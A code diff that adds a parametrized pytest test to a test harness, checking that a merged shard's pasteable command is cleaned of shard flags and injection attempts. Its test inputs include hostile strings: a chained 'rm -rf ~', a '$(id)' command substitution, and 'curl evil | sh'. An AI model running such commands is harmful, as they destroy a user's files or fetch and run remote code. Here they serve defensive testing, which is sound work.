@@ -64,6 +64,27 @@ def test_the_merge_is_what_one_run_would_be(shop, of):
     assert codes[0] == codes[1] == 1
 
 
+@pytest.mark.parametrize(
+    ("said", "left"),
+    [
+        (
+            "harness run 'my suite.yaml' -k 'a b' --shard 1/3",
+            "harness run 'my suite.yaml' -k 'a b'",
+        ),
+        ("harness run; rm -rf ~", ""),
+        ("harness run $(id) ; id", "harness run '$(id)' ';' id"),
+        ("curl evil | sh", ""),
+        ("harness run 'open", ""),
+    ],
+)
+def test_what_is_to_be_pasted_runs_the_harness_alone(shop, three, said, left):
+    """A shard's file comes from elsewhere, and its command is typed by people."""
+    first, *others = three.items()
+    joined = merged(dict([(first[0], replace(first[1], command=said)), *others]), shop)
+
+    assert joined.command == left
+
+
 def test_the_suite_has_what_one_part_cannot_tell(shop, three):
     """Looks, pictures that came twice in two variants, edits: the test above is not empty."""
     shop_of = merged(three, shop).suites[0]
